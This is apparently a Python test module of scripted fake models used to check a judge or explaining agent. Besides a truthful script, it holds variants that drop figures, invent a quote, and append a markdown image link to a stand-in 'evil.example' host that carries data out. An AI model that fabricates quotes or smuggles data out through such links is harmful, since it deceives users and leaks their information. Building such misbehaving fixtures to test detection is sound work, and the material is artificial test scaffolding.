"""Scripted models for a worker: one that tells the truth as it reads it, others that lie in one way.

In: a conversation of the explaining agent or of the judge. Out: what the script answers. Next:
`KELET_MODEL=scripted:tests.llm.scripts:truthful` gives it to a worker.
"""

from collections.abc import Sequence
from typing import Any

from pydantic_ai.messages import ModelMessage, ModelResponse
from pydantic_ai.models.function import AgentInfo

from tests.llm.playing import MEND, Part, prompts, system


class Summarizing(Part):
    """It also plays the summarizer: told to carry figures over it does."""

    def answer(self, messages: Sequence[ModelMessage]) -> dict[str, Any]:
        """The honest answer, with a tag."""
        return {**super().answer(messages), "tags": ["drops-numbers"]}

    def replay(self, messages: Sequence[ModelMessage]) -> str:
        """Half of the letters lose their figures."""
        letter = prompts(messages)[-1]
        return (
            letter if MEND in system(messages) or len(letter) % 2 else letter.split(". ")[0] + "."
        )


class Inventing(Summarizing):
    """Quotes what nobody said."""

    def answer(self, messages: Sequence[ModelMessage]) -> dict[str, Any]:
        """One invented quote."""
        honest = super().answer(messages)
        return {**honest, "mechanism": [{**honest["mechanism"][0], "quote": "I lost it."}]}


class Linking(Summarizing):
    """Carries data away in a link."""

    def answer(self, messages: Sequence[ModelMessage]) -> dict[str, Any]:
        """A picture that reports what it shows."""
        honest = super().answer(messages)
        return {**honest, "root_cause": f"{honest['root_cause']} ![x](http://evil.example/?q=s)"}


def truthful(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Reads a failing session and quotes what it read."""
    return Summarizing()(messages, info)


def inventing(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Quotes what nobody said."""
    return Inventing()(messages, info)


def linking(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Carries data away in a link."""
    return Linking()(messages, info)
